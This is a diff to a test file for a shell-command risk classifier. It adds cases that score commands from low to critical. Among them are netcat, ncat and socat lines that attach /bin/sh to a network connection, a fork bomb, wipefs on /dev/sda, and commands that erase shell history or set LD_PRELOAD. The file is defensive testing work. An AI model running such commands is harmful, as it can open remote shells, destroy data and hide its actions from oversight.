@@ -210,6 +210,10 @@ const PROGRAM_CLASSES: readonly Case[] = [
   ['bash', 'high', '`bash` starts a shell that runs what it reads'],
   ['bash fix.sh', 'high', '`bash fix.sh` runs the shell script fix.sh'],
   ['sh fix.sh', 'high', '`sh fix.sh` runs the shell script fix.sh'],
+  ['cryptsetup statusx', 'critical', '`cryptsetup statusx` writes to a disk or filesystem'],
+  ['cryptsetup -vv', 'critical', '`cryptsetup -vv` writes to a disk or filesystem'],
+  ['wipefs -nx /dev/sda', 'critical', '`wipefs -nx /dev/sda` writes to a disk or filesystem'],
+  ['wipefs --outputs /dev/sda', 'critical', '`wipefs --outputs /dev/sda` writes to a disk or filesystem'],
 ];
 
 const WINDOWS_PROGRAM_CLASSES: readonly Case[] = [
@@ -690,6 +694,57 @@ const SYSTEM_EFFECTS: readonly Case[] = [
   ['git -C /srv/app branch', 'low', 'read-only diagnostics: git'],
   ['git -C /srv/app branch new', 'high', '`git -C /srv/app branch new` changes the repository (branch)'],
   ['git -c a=b branch new', 'high', '`git -c a=b branch new` changes the repository (branch)'],
+  ['logrotate /etc/logrotate.conf', 'high', '`logrotate /etc/logrotate.conf` rotates (and may delete) logs'],
+  ['logrotate -d /etc/logrotate.conf', 'low', 'read-only diagnostics: logrotate'],
+  ['logrotate --debug /etc/logrotate.conf', 'low', 'read-only diagnostics: logrotate'],
+  ['tcpdump -i eth0', 'low', 'read-only diagnostics: tcpdump'],
+  ['tcpdump -w /tmp/cap.pcap', 'high', '`tcpdump -w /tmp/cap.pcap` writes a capture to /tmp/cap.pcap'],
+  ['tcpdump -w /etc/cap.pcap', 'high', '`tcpdump -w /etc/cap.pcap` writes a capture to /etc/cap.pcap'],
+  ['tcpdump -i -w x', 'low', 'read-only diagnostics: tcpdump'],
+  ['fsck /dev/sdb1', 'high', '`fsck /dev/sdb1` repairs a filesystem'],
+  ['fsck -n /dev/sdb1', 'low', 'read-only diagnostics: fsck'],
+  ['fsck -N /dev/sdb1', 'low', 'read-only diagnostics: fsck'],
+  ['e2fsck /dev/sdb1', 'high', '`e2fsck /dev/sdb1` repairs a filesystem'],
+  ['e2fsck -n /dev/sdb1', 'low', 'read-only diagnostics: e2fsck'],
+  ['xfs_repair /dev/sdb1', 'high', '`xfs_repair /dev/sdb1` repairs a filesystem'],
+  ['xfs_repair -n /dev/sdb1', 'low', 'read-only diagnostics: xfs_repair'],
+  ['kill 42', 'high', '`kill 42` kills processes'],
+  ['kill -l', 'low', 'read-only diagnostics: kill'],
+  ['kill -L', 'low', 'read-only diagnostics: kill'],
+  ['kill --list', 'low', 'read-only diagnostics: kill'],
+  ['kill --table', 'low', 'read-only diagnostics: kill'],
+  ['kill -0 42', 'low', 'read-only diagnostics: kill'],
+  ['renice 5 42', 'medium', '`renice 5 42` changes process priorities'],
+  ['history', 'low', 'read-only diagnostics: history'],
+  ['history -c', 'high', '`history -c` erases or rewrites the shell history'],
+  ['history -d 5', 'high', '`history -d 5` erases or rewrites the shell history'],
+  ['history -w', 'high', '`history -w` erases or rewrites the shell history'],
+  ['history -a', 'low', 'read-only diagnostics: history'],
+  ['nc -l 4444', 'medium', '`nc -l 4444` talks to the network or another service'],
+  ['nc -e /bin/sh x 1', 'high', '`nc -e /bin/sh x 1` attaches a program to a network connection'],
+  ['nc -c sh x 1', 'high', '`nc -c sh x 1` attaches a program to a network connection'],
+  ['nc -lvpe /bin/sh 4444', 'high', '`nc -lvpe /bin/sh 4444` attaches a program to a network connection'],
+  ['ncat x 1', 'medium', '`ncat x 1` talks to the network or another service'],
+  ['ncat -e /bin/sh x 1', 'high', '`ncat -e /bin/sh x 1` attaches a program to a network connection'],
+  ['ncat -c sh x 1', 'high', '`ncat -c sh x 1` attaches a program to a network connection'],
+  ['ncat --exec /bin/sh x 1', 'high', '`ncat --exec /bin/sh x 1` attaches a program to a network connection'],
+  ['ncat --sh-exec sh x 1', 'high', '`ncat --sh-exec sh x 1` attaches a program to a network connection'],
+  ['ncat --lua-exec x.lua x 1', 'high', '`ncat --lua-exec x.lua x 1` attaches a program to a network connection'],
+  ['ncat -lve /bin/sh 1', 'high', '`ncat -lve /bin/sh 1` attaches a program to a network connection'],
+  ['socat - TCP:x:1', 'medium', '`socat - TCP:x:1` talks to the network or another service'],
+  ['socat TCP:x:1 EXEC:/bin/sh', 'high', '`socat TCP:x:1 EXEC:/bin/sh` attaches a program to a network connection'],
+  ['socat TCP:x:1 SYSTEM:sh', 'high', '`socat TCP:x:1 SYSTEM:sh` attaches a program to a network connection'],
+  ['socat TCP:x:1,fork exec:sh', 'high', '`socat TCP:x:1,fork exec:sh` attaches a program to a network connection'],
+  ['socat TCP-LISTEN:1 !system:sh', 'high', '`socat TCP-LISTEN:1 !system:sh` attaches a program to a network connection'],
+  ['modprobe x', 'high', '`modprobe x` loads or unloads kernel modules'],
+  ['modprobe -n x', 'low', 'read-only diagnostics: modprobe'],
+  ['modprobe --dry-run x', 'low', 'read-only diagnostics: modprobe'],
+  ['modprobe -c', 'low', 'read-only diagnostics: modprobe'],
+  ['modprobe --showconfig', 'low', 'read-only diagnostics: modprobe'],
+  ['modprobe -r x', 'high', '`modprobe -r x` loads or unloads kernel modules'],
+  ['insmod x.ko', 'high', '`insmod x.ko` loads a kernel module'],
+  ['rmmod x', 'high', '`rmmod x` unloads a kernel module'],
+  ['update-grub', 'critical', '`update-grub` rewrites the boot configuration'],
 ];
 
 const FILE_EFFECTS: readonly Case[] = [
@@ -964,6 +1019,34 @@ const FILE_EFFECTS: readonly Case[] = [
   ['python3 -c \'open("x")\'', 'high', '`python3 -c open("x")` runs python3 code that can write, delete or run programs'],
   ["python3 -c 'x = 1 > y'", 'high', '`python3 -c x = 1 > y` runs python3 code that can write, delete or run programs'],
   ['python3 -c \'print(1) > "/x"\'', 'high', '`python3 -c print(1) > "/x"` runs python3 code that can write, delete or run programs'],
+  ['wget -P -O http://x', 'high', '`wget -P -O http://x` downloads files into the working directory'],
+  ['wget -o -O http://x', 'high', '`wget -o -O http://x` downloads files into the working directory'],
+  ['wget --output-file -O http://x', 'high', '`wget --output-file -O http://x` downloads files into the working directory'],
+  ['wget --directory-prefix -O http://x', 'high', '`wget --directory-prefix -O http://x` downloads files into the working directory'],
+  ['wget -qO- http://x', 'medium', '`wget -qO- http://x` talks to the network or another service'],
+  ['curl -H -O http://x', 'medium', '`curl -H -O http://x` talks to the network or another service'],
+  ['curl --header -O http://x', 'medium', '`curl --header -O http://x` talks to the network or another service'],
+  ['curl -u -O http://x', 'medium', '`curl -u -O http://x` talks to the network or another service'],
+  ['curl --user -O http://x', 'medium', '`curl --user -O http://x` talks to the network or another service'],
+  ['curl -A -O http://x', 'medium', '`curl -A -O http://x` talks to the network or another service'],
+  ['curl -w -O http://x', 'medium', '`curl -w -O http://x` talks to the network or another service'],
+  ['curl -m -O http://x', 'medium', '`curl -m -O http://x` talks to the network or another service'],
+  ['curl -e -O http://x', 'medium', '`curl -e -O http://x` talks to the network or another service'],
+  ['curl -x -O http://x', 'medium', '`curl -x -O http://x` talks to the network or another service'],
+  ['curl -b -O http://x', 'medium', '`curl -b -O http://x` talks to the network or another service'],
+  ['curl -K -O http://x', 'medium', '`curl -K -O http://x` talks to the network or another service'],
+  ['sort -k -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort -t -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort -S -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort -T -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --key -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --field-separator -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --buffer-size -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --temporary-directory -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --parallel -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --batch-size -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --files0-from -o x', 'low', 'read-only diagnostics: sort'],
+  ['sort --random-source -o x', 'low', 'read-only diagnostics: sort'],
 ];
 
 /** Output redirections write their target (a descriptor copy writes nothing); credentials read by name or on stdin. */
@@ -993,6 +1076,28 @@ const REDIRECTIONS_AND_CREDENTIAL_READS: readonly Case[] = [
   ['cat <<< hi', 'low', 'read-only diagnostics: cat'],
   ['echo x > 12', 'high', '`echo x` writes to 12'],
   ['echo x > -', 'high', '`echo x` writes to -'],
+  ['echo x >&10', 'low', 'read-only diagnostics: echo'],
+  ['echo x 2>&10', 'low', 'read-only diagnostics: echo'],
+];
+
+/** How a line's commands combine: the worst decides (the first of equals names the reason), assignments that hide what runs, wrappers. */
+const LINES: readonly Case[] = [
+  ['HISTFILE=/dev/null', 'high', '`HISTFILE=/dev/null` changes HISTFILE, which hides what runs or changes what programs load'],
+  ['FOO=1', 'low', 'read-only diagnostics: variable assignments'],
+  ['LD_PRELOAD=/tmp/x.so ls', 'high', '`ls` changes LD_PRELOAD, which hides what runs or changes what programs load'],
+  ['unset HISTFILE', 'high', '`unset HISTFILE` changes HISTFILE, which hides what runs or changes what programs load'],
+  ['unset FOO', 'low', 'read-only diagnostics: unset'],
+  ['PROMPT_COMMAND=x', 'high', '`PROMPT_COMMAND=x` changes PROMPT_COMMAND, which hides what runs or changes what programs load'],
+  ['LD_LIBRARY_PATH=/tmp ls', 'high', '`ls` changes LD_LIBRARY_PATH, which hides what runs or changes what programs load'],
+  ['HISTSIZE=0', 'high', '`HISTSIZE=0` changes HISTSIZE, which hides what runs or changes what programs load'],
+  [':(){ :|:& };:', 'critical', '`:` starts copies of itself without end (a fork bomb)'],
+  ['kill -9 1; pkill nginx', 'high', '`kill -9 1` kills processes'],
+  ['pkill nginx; kill -9 1', 'high', '`pkill nginx` kills processes'],
+  ['uptime; df -h', 'low', 'read-only diagnostics: uptime, df'],
+  ['uptime; FOO=1', 'low', 'read-only diagnostics: uptime'],
+  ['FOO=1; BAR=2', 'low', 'read-only diagnostics: variable assignments'],
+  ['sudo uptime', 'low', 'read-only diagnostics: uptime'],
+  ['timeout 5 uptime', 'low', 'read-only diagnostics: uptime'],
 ];
 
 /** The rows whose assessment differs from the table (all of them, so one run names every break). */
@@ -1022,6 +1127,10 @@ describe('troubleshoot risk tables, entry by entry (issue 36)', () => {
 
   it('scores output redirections by their target and credential reads by the path', () => {
     expect(mismatches(REDIRECTIONS_AND_CREDENTIAL_READS)).toEqual([]);
+  });
+
+  it('scores a line by its worst command, and assignments that hide what runs', () => {
+    expect(mismatches(LINES)).toEqual([]);
   });
 
   it('scores the programs that write, delete or edit files by their options and targets', () => {
